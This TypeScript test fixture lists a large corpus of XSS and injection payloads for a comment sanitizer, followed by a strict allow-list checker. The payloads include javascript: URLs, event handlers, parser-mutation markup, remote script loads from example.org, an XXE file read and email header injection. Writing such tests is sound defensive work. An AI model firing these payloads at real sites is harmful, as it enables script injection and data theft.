const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript://example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.org/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:https://example.org/a.jar!/a.html',
  '\u00a0javascript:alert(1)',
  'javascript\u200b:alert(1)',
  'javas\\cript:alert(1)',
  'x-javascript:alert(1)',
]

const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://example.org/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<script>alert(1)',
  '</p><script>alert(1)</script><p>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  "<img src='x' onerror='alert(1)'>",
  '<img src=`x` onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<image href="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">a</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=javascript:alert(1)>a</a>',
  '<a onmouseover="alert(1)">a</a>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://example.org/">',
  '<link rel="stylesheet" href="https://example.org/x.css">',
  '<style>@import "https://example.org/x.css"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<div style="background:url(https://example.org/x)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<p id="main" class="held" name="getElementById">a</p>',
  '<portal src="https://example.org"></portal>',
  '<dialog open onclose=alert(1)>',
]

const markdown = [
  '[a](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a]( javascript:alert(1) "t")',
  '[a](javascript&colon;alert(1))',
  '[a](https://example.org "\\" onmouseover=alert(1) x=\\"")',
  '[a](https://example.org/"onmouseover="alert(1))',
  "[a](https://example.org/'onmouseover='alert(1))",
  '[a][b]\n\n[b]: javascript:alert(1)',
  '[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![a](javascript:alert(1))',
  '![a](https://example.org/x.png "\\" onerror=alert(1)")',
  '![a"onerror="alert(1)](x)',
  '[![a](https://example.org/x.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,a>',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\na\n```',
  '`<script>alert(1)</script>`',
  '> <img src=x onerror=alert(1)>',
  '- <svg/onload=alert(1)>',
  '**<b onclick=alert(1)>a**</b>',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '[a](https://example.org)<script>alert(1)</script>',
]

/** Markup that means one thing to who cleans it and another to who reads it afterwards. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><title><a title="</title><img src onerror=alert(1)>">',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><caption><svg><style><!--</style><img src onerror=alert(1)>-->',
  '<p title="`"><img alt="`><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
  '<svg><desc><p><img src=x onerror=alert(1)></desc></svg>',
  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>',
  '<a href="https://example.org/&quot; onclick=alert(1) x=&quot;">a</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<b <script>alert(1)</script>0',
  '<img src=x:x onerror\u0000=alert(1)>',
  '<img\u000conerror=alert(1)\u000csrc=x>',
  '<img src=x onerror\u2028=alert(1)>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u202e<script>alert(1)</script>\u202c',
  '<s\u200bcript>alert(1)</s\u200bcript>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\ud800<img src=x onerror=alert(1)>\udc00',
]

/** Elements and attributes of newer browsers, and ways to load something without a script. */
const newer = [
  '<img src=x onerror="alert`1`" loading=eager>',
  '<img srcset="https://example.org/x.png 1x" sizes="1px">',
  '<picture><source srcset="https://example.org/x.png"><img></picture>',
  '<video poster="https://example.org/x.png" autoplay oncanplay=alert(1)></video>',
  '<input type=image src=https://example.org/x.png onerror=alert(1)>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>">',
  '<style>*{background:url(https://example.org/x)}</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>a</p>',
  '<p ontransitionend=alert(1) style="transition:1s" id=x tabindex=1>a</p>',
  '<div popover id=pop onbeforetoggle=alert(1)>a</div><button popovertarget=pop>b</button>',
  '<p contenteditable onfocus=alert(1) autofocus tabindex=0>a</p>',
  '<a ping="https://example.org/p" href="https://example.org">a</a>',
  '<a href="https://example.org" target=_blank rel=opener>a</a>',
  '<p onpointerrawupdate=alert(1)>a</p>',
  '<p onscrollend=alert(1)>a</p>',
  '<body onpageshow=alert(1) onhashchange=alert(1)>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"></use></svg>',
  '<svg><image href="https://example.org/x.svg" onload=alert(1)></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)</handler></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<slot onslotchange=alert(1)></slot>',
  '<x-custom is=a onclick=alert(1)>a</x-custom>',
  '<link rel=prefetch href=https://example.org/x>',
  '<link rel=preload as=image href=https://example.org/x.png>',
  '<script type=module>import "https://example.org/x.js"</script>',
  '<script type=importmap>{"imports":{"x":"https://example.org/x.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://example.org"]}]}</script>',
  '<fencedframe src=https://example.org></fencedframe>',
  '<meta name=referrer content=unsafe-url>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>',
  '<details name=x ontoggle=alert(1) open><summary>a</summary></details>',
]

/** Ways out of places that are no HTML: scripts of data, feeds, headers of mails, templates, addresses. */
const elsewhere = [
  '</script><script>alert(1)</script>',
  '"}</script><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script><![CDATA[',
  '</content:encoded><script>alert(1)</script>',
  '</summary><link href="javascript:alert(1)"/><summary>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '&xxe;&#0;&#xFFFE;&#x110000;',
  'a\r\nBcc: victim@example.org\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'a"><img src=x onerror=alert(1)>@example.org',
  '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker types
  '${alert(1)}',
  '<%= alert(1) %>',
  '{alert(1)}<Tabs onClick={alert(1)} />',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
  "';alert(1);//",
  '";alert(1);//',
  '\\";alert(1);//',
  '\u2028alert(1)\u2029',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`onmouseover=alert(1)',
  '#c-"><script>alert(1)</script>',
]

/** More of Markdown: addresses that only look harmless, marks within marks. */
const marks = [
  '[a](\u0000javascript:alert(1))',
  '[a](&#x09;javascript:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](javascript:alert(1)//https://example.org)',
  '[a](//example.org/x)',
  '[a](\\\\example.org/x)',
  '[a](https:javascript:alert(1))',
  '[a](mailto:a@example.org?body=<script>alert(1)</script>)',
  '[a](https://example.org/?q=<script>alert(1)</script>)',
  '[a](<https://example.org/" onclick="alert(1)>)',
  '[a](https://example.org \'x" onclick="alert(1)\')',
  '[**[a](javascript:alert(1))**](https://example.org)',
  '[a][javascript:alert(1)]',
  '[javascript:alert(1)]',
  '![a][b]\n\n[b]: https://example.org/x.png',
  '<https://example.org/"onmouseover="alert(1)>',
  '<mailto:a@example.org"onclick="alert(1)>',
  '~~~html "onload="alert(1)\n<svg onload=alert(1)>\n~~~',
  '    <script>alert(1)</script>',
  '1. <details open ontoggle=alert(1)>\n   - <img src=x onerror=alert(1)>',
  '> > > <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '*<svg onload=alert(1)>*',
  '\\<script>alert(1)\\</script>',
  '\\[a](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| a |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input onfocus=alert(1) autofocus>',
  'a\u00a0\n===\n<img src=x onerror=alert(1)>',
  'https://example.org/<script>alert(1)</script>',
]

/** Texts that people have sent to make a page run or load something; each as it would be typed. */
export const attacks: readonly string[] = [...schemes, ...elements, ...markdown, ...mutations, ...newer, ...elsewhere, ...marks]

const allowed: Record<string, RegExp> = {
  // Browsers drop blanks and controls before they look at the scheme.
  'a href': /^(?:https?:|mailto:|(?![^/?#]*:))/i,
  'a rel': /^nofollow ugc noopener$/,
  'ol start': /^\d+$/,
  'span class': /^[kfnscid]$/,
}
const elementNames = new Set('p br em strong code pre blockquote ul ol li a span'.split(' '))
const tag = /<\/?([^\s/>]*)((?:"[^"]*"|'[^']*'|[^"'>])*)>?/g
const attribute = /([^\s=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|(\S+)))?/g

/** Each element, attribute and address of a comment's HTML that is not of the allowed few. Read strictly: any "<" begins a tag. */
export function unsafeIn(html: string): string[] {
  const found: string[] = []
  for (const [whole, name = '', attributes = ''] of html.matchAll(tag)) {
    if (!elementNames.has(name)) found.push(whole)
    for (const [, key = '', double, single, bare] of attributes.matchAll(attribute)) {
      const value = decode(double ?? single ?? bare ?? '')
      if (!allowed[`${name} ${key}`]?.test(value)) found.push(`${name} ${key}=${value}`)
    }
  }
  return found
}

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&(?:Tab|NewLine);/gi, '')
}
